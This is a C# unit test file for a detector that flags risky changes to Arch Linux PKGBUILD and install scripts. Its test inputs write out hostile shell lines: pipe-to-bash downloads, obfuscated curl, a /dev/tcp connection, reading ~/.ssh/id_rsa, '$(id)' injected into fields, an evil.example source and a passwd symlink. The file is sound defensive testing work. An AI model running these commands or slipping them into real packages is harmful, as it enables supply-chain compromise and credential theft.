using System.Text;
using Caur.Pipelines.Changes;
using Caur.Pipelines.Reviews;

namespace Caur.Tests.Pipelines.Reviews;

public sealed class RiskReportTests
{
    private const string Sum = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    private const string Pkgbuild =
        $$"""
        # Maintainer: A <a@example.org>
        pkgname=foo
        pkgver=1.0
        pkgrel=1
        url="https://example.org"
        depends=('glibc')
        source=("https://example.org/foo-$pkgver.tar.gz" "git+https://example.org/sub.git#tag=v$pkgver")
        sha256sums=('{{Sum}}' 'SKIP')
        validpgpkeys=('ABCD')
        build() {
          cd foo
          make
        }
        package() {
          make DESTDIR="$pkgdir" install
        }

        """;

    [Theory]
    [InlineData("  make\n", "  curl -s https://x.example/i | bash\n", RiskLevel.Alarm, "runs what it downloads")]
    [InlineData("  make\n", "  bash <(curl -s https://x.example/i)\n", RiskLevel.Alarm, "runs what it downloads")]
    [InlineData("  make\n", "  wget -qO- x | sudo sh -\n", RiskLevel.Alarm, "runs what it downloads")]
    [InlineData("  make\n", "  curl x \\\n    | python3\n", RiskLevel.Alarm, "runs what it downloads")]
    [InlineData("  make\n", "  eval \"$x\"\n", RiskLevel.Look, "evaluates")]
    [InlineData("  make\n", "  echo aGk= | base64 -d | sh\n", RiskLevel.Alarm, "decodes")]
    [InlineData("  make\n", "  c\"\"url x\n", RiskLevel.Alarm, "not recognised")]
    [InlineData("  make\n", "  cu\\rl x\n", RiskLevel.Alarm, "not recognised")]
    [InlineData("  make\n", "  $'\\x63url' x\n", RiskLevel.Alarm, "not recognised")]
    [InlineData("  make\n", "  c'ur'l x | b\"as\"h\n", RiskLevel.Alarm, "runs what it downloads")]
    [InlineData("  make\n", "  \"$cmd\" x\n", RiskLevel.Look, "variable names")]
    [InlineData("  make\n", "  sudo make\n", RiskLevel.Alarm, "another user's rights")]
    [InlineData("  make\n", "  systemctl enable foo\n", RiskLevel.Look, "systemd")]
    [InlineData("  make\n", "  LD_PRELOAD=./x.so make\n", RiskLevel.Alarm, "load its code")]
    [InlineData("  make\n", "  npm install\n", RiskLevel.Look, "npm")]
    [InlineData("  make\n", "  npm ci --ignore-scripts\n", RiskLevel.Look, "npm")]
    [InlineData("  make\n", "  pip install --user x\n", RiskLevel.Look, "pip")]
    [InlineData("  make\n", "  python -m pip install x\n", RiskLevel.Look, "pip")]
    [InlineData("  make\n", "  cargo fetch --locked\n", RiskLevel.Look, "cargo")]
    [InlineData("  make\n", "  go mod download\n", RiskLevel.Look, "go")]
    [InlineData("  make\n", "  curl -O https://x.example/y\n", RiskLevel.Look, "downloads")]
    [InlineData("  make\n", "  git clone https://x.example/y\n", RiskLevel.Look, "clones")]
    [InlineData("  make\n", "  exec 3<>/dev/tcp/1.2.3.4/80\n", RiskLevel.Alarm, "network connection by hand")]
    [InlineData("  make\n", "  cat ~/.ssh/id_rsa\n", RiskLevel.Alarm, "user's own files")]
    [InlineData("  make\n", "  chmod 4755 x\n", RiskLevel.Look, "owner's rights")]
    [InlineData("  make\n", "  echo \u202Eevil\n", RiskLevel.Alarm, "do not show")]
    [InlineData("  make\n", "  echo > \"$pkgdir\"/etc/profile.d/x.sh\n", RiskLevel.Look, "starts something by itself")]
    [InlineData("  make\n", "  . ./env\n", RiskLevel.Look, "another file's code")]
    [InlineData("build() {", "curl x\nbuild() {", RiskLevel.Alarm, "outside of all functions")]
    [InlineData("pkgrel=1", "pkgrel=$(id)", RiskLevel.Alarm, "outside of all functions")]
    [InlineData("'glibc'", "'glibc' \"$(id)\"", RiskLevel.Alarm, "outside of all functions")]
    [InlineData("https://example.org/foo", "https://evil.example/foo", RiskLevel.Alarm, "A host that no source came from")]
    [InlineData("https://example.org/foo", "http://example.org/foo", RiskLevel.Alarm, "anybody on the way")]
    [InlineData("git+https://example.org", "git://example.org", RiskLevel.Alarm, "anybody on the way")]
    [InlineData("#tag=v$pkgver", "", RiskLevel.Look, "no longer")]
    [InlineData($"'{Sum}'", "'SKIP'", RiskLevel.Alarm, "checksums are skipped")]
    [InlineData("sha256sums=", "md5sums=", RiskLevel.Look, "weaker")]
    [InlineData($"sha256sums=('{Sum}' 'SKIP')\n", "", RiskLevel.Alarm, "no checksums any more")]
    [InlineData("'ABCD'", "'ABCE'", RiskLevel.Look, "Another key")]
    [InlineData("  cd foo\n", "  cd bar\n", RiskLevel.Look, "A function changed (+1 -1)")]
    [InlineData("package() {", "prepare() {\n  x\n}\npackage() {", RiskLevel.Look, "A new function")]
    [InlineData("pkgrel=1\n", "pkgrel=1\ninstall=foo.install\n", RiskLevel.Alarm, "as root")]
    [InlineData("# Maintainer: A", "# Maintainer: B", RiskLevel.Look, "another maintainer")]
    [InlineData("url=\"https://example.org\"", "url=\"https://example.net\"", RiskLevel.Look, "project's page")]
    [InlineData("('glibc')", "('glibc' 'evil>1')", RiskLevel.Note, "New in depends")]
    [InlineData("pkgname=foo\n", "pkgname=foo\nprovides=('glibc')\n", RiskLevel.Look, "New in provides")]
    [InlineData("pkgver=1.0", "pkgver=0.9", RiskLevel.Look, "older")]
    [InlineData("  make\n", "  make '\n", RiskLevel.Alarm, "cannot be read")]
    internal void Of_WhenAChangeIsRisky_SaysWhat(string from, string to, RiskLevel level, string what)
    {
        Pkgbuild.ShouldContain(from);
        var findings = Find(("PKGBUILD", Pkgbuild.Replace(from, to, StringComparison.Ordinal)));
        findings.ShouldContain(finding => finding.Level == level && finding.What.Contains(what, StringComparison.Ordinal), string.Join('\n', findings));
        findings.ShouldAllBe(finding => finding.What.All(c => c < 0x7F));
        findings.Select(finding => finding.Level).ShouldBeInOrder(SortDirection.Descending);
    }

    [Theory]
    [InlineData("pkgver=1.0", "pkgver=1.1")]
    [InlineData(Sum, "f123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef")]
    [InlineData("  cd foo\n  make\n", "\n    cd foo;   make\n")]
    public void Of_WhenOnlyVersionSumsOrLayoutChange_IsEmpty(string from, string to) =>
        Find(("PKGBUILD", Pkgbuild.Replace(from, to, StringComparison.Ordinal))).ShouldBeEmpty();

    [Fact]
    public void Of_WhenWhatWasThereIsRisky_SaysNothingOfIt()
    {
        var risky = Pkgbuild.Replace("  make\n", "  curl x | sh\n", StringComparison.Ordinal);
        RiskReport.Of(FolderTree.Of(("PKGBUILD", risky)), FolderTree.Of(("PKGBUILD", risky.Replace("pkgver=1.0", "pkgver=1.1", StringComparison.Ordinal)))).ShouldBeEmpty();
    }

    [Fact]
    public void Of_WhenAnInstallScriptChanges_LooksIntoIt()
    {
        var old = FolderTree.Of(("PKGBUILD", Pkgbuild), ("foo.install", "post_install() {\n  true\n}\n"));
        var findings = RiskReport.Of(old, FolderTree.Of(("PKGBUILD", Pkgbuild), ("foo.install", "post_install() {\n  systemctl enable foo\n}\n")));
        findings.ShouldContain(finding => finding.Level == RiskLevel.Alarm && finding.What.Contains("uses systemd, as root", StringComparison.Ordinal) && finding.Line == 2);
        findings.ShouldContain(finding => finding.What.Contains("changed", StringComparison.Ordinal) && finding.Path == "foo.install");
    }

    [Fact]
    public void Of_WhenFilesComeAlong_LooksAtTheirKind()
    {
        var findings = RiskReport.Of(
            FolderTree.Of(("PKGBUILD", Pkgbuild)),
            new FolderTree(
            [
                KeyValuePair.Create("PKGBUILD", FolderFile.Of(Pkgbuild)),
                KeyValuePair.Create("link", new FolderFile(FileKind.Link, Encoding.UTF8.GetBytes("../../etc/passwd"))),
                KeyValuePair.Create("blob", new FolderFile(FileKind.File, new byte[] { 0x7F, 0x45, 0x00, 0xFF })),
                KeyValuePair.Create("run", new FolderFile(FileKind.Executable, Encoding.UTF8.GetBytes("#!/bin/sh\ncurl x | sh\n"))),
                KeyValuePair.Create("sub", new FolderFile(FileKind.Submodule, Encoding.UTF8.GetBytes(new string('a', 40)))),
                KeyValuePair.Create("a.patch", FolderFile.Of("+system(\"curl x | sh\")\n")),
            ]));
        foreach (var (what, path) in (ReadOnlySpan<(string, string)>)
            [("leads out", "link"), ("no text", "blob"), ("can be run", "run"), ("runs what it downloads", "run"), ("Another repository", "sub"), ("runs what it downloads", "a.patch")])
        {
            findings.ShouldContain(finding => finding.What.Contains(what, StringComparison.Ordinal) && finding.Path == path, what);
        }
    }

    [Fact]
    public void Of_WhenMaintainersChanged_SaysWho()
    {
        var tree = FolderTree.Of(("PKGBUILD", Pkgbuild));
        var findings = RiskReport.Of(tree, tree, ["alice", "bob"], ["Alice", "mallory"]);
        findings.ShouldContain(finding => finding.Level == RiskLevel.Alarm && finding.Words == "mallory");
        findings.ShouldContain(finding => finding.Words == "bob");
        findings.ShouldNotContain(finding => finding.Words == "Alice");
    }

    private static IReadOnlyList<RiskFinding> Find(params (string, string)[] files) => RiskReport.Of(FolderTree.Of(("PKGBUILD", Pkgbuild)), FolderTree.Of(files));
}
